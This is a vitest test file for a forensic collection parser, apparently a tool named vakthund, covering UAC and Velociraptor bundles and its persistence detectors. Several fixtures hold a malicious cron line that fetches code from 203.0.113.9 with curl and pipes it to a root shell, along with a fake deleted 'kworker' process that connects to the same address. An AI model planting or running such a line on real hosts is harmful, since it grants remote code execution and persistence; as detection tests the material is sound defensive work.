import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tarOf, type TarFiles } from '../../../../tests/support/tar.ts';
import { zipOf } from '../../../../tests/support/zip.ts';
import { inspectHost } from '../inspect-host.ts';
import { bodyEntryOf } from './body-file.ts';
import { openBundle } from './open-bundle.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'vakthund-collectors-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

describe('UAC', () => {
  const body = [
    '0|/etc/cron.d/job|12|-rw-r--r--|0|0|60|1700000000|1700000001|1700000002|0',
    'd41d8cd98f00b204e9800998ecf8427e|/usr/bin/.x|13|-rwsr-xr-x|0|0|100|1700000000|1700000001|1700000002|1699999999',
    '0|/bin -> usr/bin|14|lrwxrwxrwx|0|0|7|1700000000|1700000001|1700000002|0',
    'no line of a body file',
  ].join('\n');

  function archive(files: TarFiles): string {
    const path = join(folder, 'uac-web1-linux-20260301100000.tar.gz');
    writeFileSync(path, gzipSync(tarOf(files)));
    return path;
  }

  it('gives the copied files their place, and names and digests from its lists', async () => {
    const bundle = await openBundle(
      archive({
        '[root]/etc/cron.d/job': '* * * * * root curl -s http://203.0.113.9/a | sh\n',
        '[root]/etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
        'bodyfile/bodyfile.txt': body,
        'hash_executables/hash_executables.sha1': `${'a'.repeat(40)}  /usr/bin/.x\n`,
        'live_response/process/ps_-ef.txt': 'UID PID\n',
      }),
    );
    expect(bundle).toMatchObject({ form: 'uac', host: 'web1' });
    expect(bundle.tree.stat('/bin/.x')).toMatchObject({ path: '/usr/bin/.x', mode: 0o4755, inode: 13, size: 100 });
    expect(bundle.tree.digest('/usr/bin/.x', 'sha1')).toBe('a'.repeat(40));
    expect(bundle.tree.digest('/usr/bin/.x', 'sha256')).toBeUndefined();
    expect(bundle.problems).toMatchObject([{ code: 'bad-record', at: { line: 4 } }]);
    expect(bundle.notChecked.map(({ what }) => what)).toEqual([
      'files more than 3 folders deep that were not copied',
      'processes and connections',
    ]);
    const detectors = inspectHost(bundle.tree).claims.map(({ detector }) => detector.split('/')[1]);
    expect(detectors).toEqual(expect.arrayContaining(['cron', 'suid']));
    bundle.close();
  });

  it('gives processes, their connections and modules from what was written of /proc', async () => {
    const stat = (pid: number, name: string): string =>
      `${pid} (${name}) S 1 ${pid} ${pid} 0 -1 4194304 0 0 0 0 5 6 0 0 20 0 1 0 300 4096 1\n`;
    const socket = '   0: 0500000A:9D1E 097100CB:01BB 01 0:0 00:0 0 33 0 4242 1\n';
    const bundle = await openBundle(
      archive({
        '[root]/etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
        'live_response/process/proc/1/stat.txt': stat(1, 'systemd'),
        'live_response/process/proc/1/mounts.txt': '/dev/sda1 / ext4 rw 0 0\n',
        'live_response/process/proc/4711/stat.txt': stat(4711, 'kworker'),
        'live_response/process/proc/4711/cmdline.txt': '/tmp/.x/kworker\0-o\0',
        'live_response/process/proc/4711/environ.txt': 'HOME=/tmp\nA=1\n',
        'live_response/process/proc/4711/mounts.txt': '/dev/sda1 / ext4 rw 0 0\n',
        'live_response/process/proc/4711/fd.txt': 'total 0\nlrwx------ 1 w w 64 Mar  1 10:00 3 -> socket:[4242]\n',
        'live_response/process/proc/88/stat.txt': stat(88, 'nginx'),
        'live_response/process/proc/88/mounts.txt': 'overlay / overlay rw 0 0\n',
        'live_response/process/running_processes_full_paths.txt':
          'lrwxrwxrwx 1 w w 0 Mar  1 10:00 /proc/4711/exe -> /tmp/.x/kworker (deleted)\n',
        'live_response/network/proc_net_tcp.txt': `  sl  local_address rem_address\n${socket}`,
        'live_response/system/lsmod.txt': 'Module  Size  Used by\nnf_nat 57344 2 xt_nat,nft\n',
      }),
    );
    const { live } = bundle;
    expect(live?.processes().map(({ pid, name }) => [pid, name])).toEqual([
      [1, 'systemd'],
      [88, 'nginx'],
      [4711, 'kworker'],
    ]);
    expect(live?.withPid(4711)).toMatchObject({
      executable: '/tmp/.x/kworker',
      isDeleted: true,
      argv: ['/tmp/.x/kworker', '-o'],
    });
    expect(live?.held()).toMatchObject([
      {
        process: { pid: 4711 },
        descriptor: 3,
        socket: { localAddress: '10.0.0.5', remoteAddress: '203.0.113.9', remotePort: 443 },
      },
    ]);
    expect(
      live
        ?.processes()
        .filter((process) => live.isElsewhere(process))
        .map(({ pid }) => pid),
    ).toEqual([88]);
    expect(bundle.recorded.tables.get('process_open_sockets')).toMatchObject([
      { pid: 4711, remote_address: '203.0.113.9' },
    ]);
    expect(bundle.recorded.tables.get('processes')).toContainEqual(
      expect.objectContaining({ pid: 4711, path: '/tmp/.x/kworker', on_disk: 0, start_time: null }),
    );
    expect(bundle.recorded.proc.text('4711/environ')).toBe('HOME=/tmp\0A=1\0');
    expect(bundle.recorded.proc.text('modules')).toBe('nf_nat 57344 2 xt_nat,nft, Live 0x0\n');
    const inspection = inspectHost(bundle.tree, live === undefined ? {} : { live });
    expect(inspection.claims.map(({ detector }) => detector)).toEqual(['persistence/deleted-exe']);
    bundle.close();
  });

  it('gives hard links the content of what they lead to, and tells those that lead nowhere', async () => {
    const bundle = await openBundle(
      archive({
        '[root]/etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
        '[root]/etc/passwd-': { type: '1', target: '[root]/etc/passwd' },
        '[root]/etc/lost': { type: '1', target: '[root]/etc/none' },
        'bodyfile/bodyfile.txt': '',
      }),
    );
    expect(bundle.tree.read('/etc/passwd-')?.toString()).toBe('root:x:0:0::/root:/bin/bash\n');
    expect(bundle.problems).toMatchObject([
      { code: 'bad-record', message: expect.stringContaining('/etc/none') as string },
    ]);
    bundle.close();
  });

  const uacLog = (host: string, mount: string): string =>
    `2026-11-27 10:00:00 +0000 INF Hostname: ${host}\n2026-11-27 10:00:00 +0000 INF Mount point: ${mount}\n`;

  it('takes the mount point off the names of a disk that was mounted for it, and the name from the log', async () => {
    const bundle = await openBundle(
      archive({
        'uac.log': uacLog('db7', '/mnt/disk'),
        '[root]/etc/cron.d/job': '* * * * * root curl -s http://203.0.113.9/a | sh\n',
        'bodyfile/bodyfile.txt': [
          '0|/mnt/disk/usr/local/bin/.x|13|-rwsr-xr-x|0|0|100|1700000000|1700000001|1700000002|0',
          '0|/mnt/other/etc/shadow|14|-rw-------|0|0|7|1700000000|1700000001|1700000002|0',
        ].join('\n'),
        'hash_executables/hash_executables.md5': `${'b'.repeat(32)}  /mnt/disk/usr/local/bin/.x\n`,
      }),
    );
    expect(bundle.host).toBe('db7');
    expect(bundle.tree.stat('/usr/local/bin/.x')).toMatchObject({ mode: 0o4755, inode: 13 });
    expect(bundle.tree.digest('/usr/local/bin/.x', 'md5')).toBe('b'.repeat(32));
    expect(bundle.tree.stat('/mnt')).toBeUndefined();
    expect(bundle.notChecked[0]?.what).toBe('files more than 4 folders deep that were not copied');
    const { claims } = inspectHost(bundle.tree, { hostName: bundle.host ?? '' });
    expect(claims.map(({ path }) => path)).toEqual(expect.arrayContaining(['/etc/cron.d/job', '/usr/local/bin/.x']));
    expect(claims[0]?.entities).toContainEqual({ kind: 'host', value: 'db7' });
    bundle.close();
  });

  it('finds the content of a file that was copied through a link', async () => {
    const bundle = await openBundle(
      archive({
        '[root]/lib/systemd/system/x.service': '[Service]\nExecStart=/bin/true\n',
        'bodyfile/bodyfile.txt': [
          '0|/lib -> usr/lib|14|lrwxrwxrwx|0|0|7|1700000000|1700000001|1700000002|0',
          '0|/usr/lib/systemd/system/x.service|13|-rw-r-----|0|0|36|1700000000|1700000001|1700000002|0',
        ].join('\n'),
      }),
    );
    expect(bundle.tree.read('/usr/lib/systemd/system/x.service')?.toString()).toContain('ExecStart');
    expect(bundle.tree.stat('/lib/systemd/system/x.service')).toMatchObject({ mode: 0o640, inode: 13 });
    bundle.close();
  });

  it('reads one that was unpacked, or never packed', async () => {
    const path = join(folder, 'uac-web1-linux-20260301100000');
    mkdirSync(join(path, '[root]/etc/cron.d'), { recursive: true });
    writeFileSync(join(path, '[root]/etc/cron.d/job'), '* * * * * root curl -s http://203.0.113.9/a | sh\n');
    symlinkSync('/', join(path, '[root]/loop'));
    const bundle = await openBundle(path);
    expect(bundle).toMatchObject({ form: 'uac', host: 'web1' });
    expect(inspectHost(bundle.tree).claims).toMatchObject([{ detector: 'persistence/cron', path: '/etc/cron.d/job' }]);
    bundle.close();
  });

  it('holds names for damaged that no system has', () => {
    expect(bodyEntryOf(`0|${'/a'.repeat(100_000)}|5|-rw-r--r--|0|0|2|0|0|0|0`)).toBeUndefined();
  });

  it('reads modes, links and names with separators', () => {
    expect(bodyEntryOf('0|/a|b -> c|5|-rwSr-s--T|1|2|3|4|5.5|6|0')?.entry).toMatchObject({
      path: '/a|b -> c',
      type: 'file',
      mode: 0o7650,
      uid: 1,
      gid: 2,
      size: 3,
      mtime: 5_500_000,
    });
    expect(bodyEntryOf('0|/a -> /b|5|l/lrwxrwxrwx|0|0|2|0|0|0|0')?.entry).toMatchObject({ path: '/a', target: '/b' });
    expect(bodyEntryOf('0|relative|5|-rw-r--r--|0|0|2|0|0|0|0')).toBeUndefined();
  });
});

describe('Velociraptor', () => {
  it('gives uploads their place', async () => {
    const path = join(folder, 'Collection-web1-2026-03-01T10_00_00Z.zip');
    writeFileSync(
      path,
      zipOf({
        'uploads/auto/etc/cron.d/job': '* * * * * root curl -s http://203.0.113.9/a | sh\n',
        'uploads/auto/etc/a%2Fb%20c': 'x',
        'uploads/ntfs/%5C%5C.%5CC%3A/x': 'not a file of Unix',
        'results/Linux.Sys.Pslist.json': '{}\n',
      }),
    );
    const bundle = await openBundle(path);
    expect(bundle).toMatchObject({ form: 'velociraptor', host: 'web1' });
    expect(bundle.tree.list('/etc').map(({ path: at }) => at)).toEqual(['/etc/a\uFFFDb c', '/etc/cron.d']);
    expect(inspectHost(bundle.tree).claims).toMatchObject([{ detector: 'persistence/cron', path: '/etc/cron.d/job' }]);
    bundle.close();
  });
});
